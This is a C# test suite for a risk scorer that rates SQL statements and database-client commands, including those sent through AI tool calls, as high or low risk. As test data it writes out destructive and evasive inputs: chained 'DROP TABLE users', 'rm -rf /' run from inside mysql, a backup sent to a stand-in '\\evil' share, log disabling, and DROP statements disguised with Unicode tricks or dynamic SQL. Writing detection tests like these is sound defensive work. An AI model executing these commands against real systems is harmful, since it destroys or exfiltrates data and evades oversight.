using Attesta.Risk.Content.Sql;
using Attesta.Tests.Risk.Content.Commands;

namespace Attesta.Tests.Risk.Content.Sql;

/// <summary>What stands before a statement, and how it is spelled, hides nothing.</summary>
public sealed class HiddenSqlTests
{
    public static TheoryData<string> Firsts =>
    [
        "USE prod", "SET x=1", "SHOW TABLES", "DESCRIBE u", "ANALYZE u", "START TRANSACTION", "LOCK TABLES u WRITE", "FLUSH TABLES", "CHECKPOINT", "SAVEPOINT a", "COMMIT", "IF EXISTS(SELECT 1) SELECT 1", "\\c prod\n", "KILL 5",
        "OPTIMIZE TABLE u", "foo", "GO", "VALUES (1)", "HELP", "-- x\n", "db.x", "MATCH (n) RETURN n", "SELECT ((((1))))", "ATTACH \"y\" AS z", "RELEASE a", "UNLISTEN x", "DISCARD ALL", "FETCH c",
    ];

    [Theory]
    [MemberData(nameof(Firsts))]
    public void A_first_statement_hides_none_behind_it(string first)
    {
        Scoring.Of($"mysql -e '{first}; DROP TABLE users'").ShouldBeHigh(first);
        Scoring.Of($"psql -c '{first}; DROP TABLE users'").ShouldBeHigh(first);
        Scoring.Of($"sqlcmd -Q '{first}; DROP TABLE users'").ShouldBeHigh(first);
        Scoring.Of($"echo '{first}; DROP TABLE users' | mysql").ShouldBeHigh(first);
        Scoring.Of("run_sql", ("sql", $"{first}; DROP TABLE users")).ShouldBeHigh(first);
        Scoring.Of("run_query", ("query", $"{first}; DROP TABLE users")).ShouldBeHigh(first);
    }

    [Theory]
    [InlineData("sqlite3 x.db 'ATTACH \"y\" AS z; DROP TABLE x'")]
    [InlineData("mysql prod -e\"USE prod; DROP TABLE users\"")]
    [InlineData("mysql -Nse 'shutdown'")]
    [InlineData("mysql --execute='USE prod; DROP TABLE users'")]
    [InlineData("psql --command 'SAVEPOINT a; DROP TABLE users'")]
    [InlineData("sqlcmd -Q 'USE prod DROP TABLE users'")]
    [InlineData("mysql -e 'system rm -rf /'")]
    [InlineData("mysql -e '\\! rm -rf /'")]
    [InlineData("mongosh --eval 'db[\"dropDatabase\"]()'")]
    public void What_a_client_is_given_is_read_whatever_it_looks_like(string command) => Scoring.Of(command).ShouldBeHigh(command);

    [Theory]
    [InlineData("psql -c '\\dt'")]
    [InlineData("psql -e -f x.sql shop")]
    [InlineData("mysql -u root -e 'show tables'")]
    [InlineData("mysql -u root -e status")]
    [InlineData("sqlite3 x.db .tables")]
    [InlineData("sqlcmd -S host -U u -d db -Q 'select 1'")]
    public void A_client_that_only_shows_is_low(string command) => Scoring.Of(command).Level.ShouldBe(RiskLevel.Low, command);

    [Fact]
    public void Parentheses_hide_nothing() => Scoring.Of("run_query", ("query", $"SELECT {new string('(', 300)}1{new string(')', 300)}; DROP TABLE users")).ShouldBeHigh();

    [Theory]
    [InlineData("RENAME TABLE users TO x", 0.45)]
    [InlineData("DBCC SHRINKDATABASE(x)", 0.45)]
    [InlineData("KILL 55", 0.6)]
    [InlineData("RESET MASTER", 0.6)]
    [InlineData("PURGE BINARY LOGS BEFORE NOW()", 0.6)]
    [InlineData("SET GLOBAL general_log=OFF", 0.6)]
    [InlineData("BACKUP DATABASE x TO DISK='\\\\evil\\x.bak'", 0.6)]
    [InlineData("EXEC('DR'+'OP TABLE users')", 0.6)]
    [InlineData("\uFF24\uFF32\uFF2F\uFF30 TABLE users", 0.6)]
    [InlineData("DR\u200BOP TABLE users", 0.6)]
    [InlineData("SELECT delete_all_users()", 0.6)]
    [InlineData("CALL wipe_everything()", 0.6)]
    [InlineData("BEGIN EXECUTE IMMEDIATE 'DROP TABLE ' || 'users'; END;", 0.6)]
    [InlineData("SELECT cron.schedule('x','* * * * *','DELETE FROM users')", 0.6)]
    [InlineData("SELECT $$DROP TABLE x$$ \\gexec", 0.6)]
    [InlineData("SELECT set_config('session_replication_role','replica',false)", 0.6)]
    [InlineData("EXPLAIN (ANALYZE) DELETE FROM users", 0.6)]
    [InlineData("PREPARE s FROM 'DROP TABLE users'; EXECUTE s", 0.6)]
    [InlineData("SET @s='DROP TABLE users'; PREPARE x FROM @s; EXECUTE x", 0.6)]
    public void Statements_deserve_what_they_do(string text, double atLeast)
    {
        Scoring.Of("run_query", ("query", text)).Score.ShouldBeGreaterThanOrEqualTo(atLeast);
        Scoring.Of("run_sql", ("sql", text)).Score.ShouldBeGreaterThanOrEqualTo(atLeast);
    }

    [Theory]
    [InlineData("delete from cart", true)]
    [InlineData("drop table users;", true)]
    [InlineData("DELETE FROM users u WHERE u.id = 1", true)]
    [InlineData("use prod; truncate table t", true)]
    [InlineData("update t set a = 1", true)]
    [InlineData("delete from array at index in javascript", false)]
    [InlineData("drop table vs truncate", false)]
    [InlineData("drop database postgres command", false)]
    [InlineData("update table set multiple columns", false)]
    [InlineData("grant permission to user linux", false)]
    [InlineData("del df['x']", false)]
    public void Tells_whole_statements_from_what_only_begins_so(string text, bool isSql) => SqlEffects.IsSurelySql(text).ShouldBe(isSql);

    [Theory]
    [InlineData("WebSearch", "drop database postgres command")]
    [InlineData("WebSearch", "delete from array javascript")]
    [InlineData("WebSearch", "delete from cart")]
    [InlineData("web_search", "update table set multiple columns")]
    [InlineData("search_docs", "drop table")]
    [InlineData("search_logs", "drop table users")]
    [InlineData("query_knowledge_base", "delete from cart")]
    [InlineData("lookup", "grant permission to user linux")]
    public void What_is_searched_for_is_no_statement(string function, string query) => Scoring.Of(function, ("query", query)).Level.ShouldBe(RiskLevel.Low);

    [Theory]
    [InlineData("search_database")]
    [InlineData("find_in_postgres")]
    public void What_searches_a_database_takes_statements(string function) => Scoring.Of(function, ("query", "DROP TABLE users")).ShouldBeHigh();

    [Fact]
    public void Looking_takes_linear_time()
    {
        foreach (var piece in (string[])["drop table a ", "update a set ", "delete from ", "(", "grant a to ", "x;", "'", "/*", "truncate "])
        {
            var text = string.Concat(Enumerable.Repeat(piece, 200_000 / piece.Length));
            var watch = System.Diagnostics.Stopwatch.StartNew();
            _ = SqlEffects.LooksLikeSql(text);
            _ = SqlEffects.IsSurelySql(text);
            watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(5), piece);
        }
    }
}
